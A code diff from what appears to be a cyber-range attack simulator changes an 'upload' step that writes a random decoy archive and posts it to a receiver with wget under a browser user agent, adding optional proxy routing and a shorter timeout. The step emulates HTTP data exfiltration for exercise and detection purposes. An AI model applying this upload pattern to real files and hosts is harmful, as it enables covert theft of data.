@@ -118,13 +118,15 @@ Status upload(StepRun& run) {
   auto mb = run.int_param("size_mb", 1, 0, 256);
   if (!mb) return mb.error();
   if (auto st = install_http_receiver(run, "receiver_host", url); !st) return st;
+  const std::string proxy = run.param_or("via_proxy", "");
   // Random filler when nothing was staged: a decoy of the declared size, no real data.
+  // The guest agent waits 60 s for a command, so the upload gives up before that.
   const std::string script =
       "[ -e " + shell_quote(archive) + " ] || head -c " + std::to_string(*mb * 1024 * 1024 + 4096) +
-      " /dev/urandom > " + shell_quote(archive) +
-      " || return 1\n"
-      "timeout 600 wget -q -O /dev/null -U 'Mozilla/5.0' --post-file " +
-      shell_quote(archive) + " " + shell_quote(url) + " || return 1\n" +
+      " /dev/urandom > " + shell_quote(archive) + " || return 1\n" +
+      (proxy.empty() ? "" : "export http_proxy=" + shell_quote("http://" + proxy) + "\n") +
+      "timeout 50 wget -q -O /dev/null -U 'Mozilla/5.0' --post-file " + shell_quote(archive) + " " +
+      shell_quote(url) + " || return 1\n" +
       evidence_line("/var/log/cyrange-sim/process.log", "upload " + archive + " -> " + url);
   if (auto st = run.once(*host, "upload", script); !st) return st;
   run.note("uploaded " + archive + " to " + url);
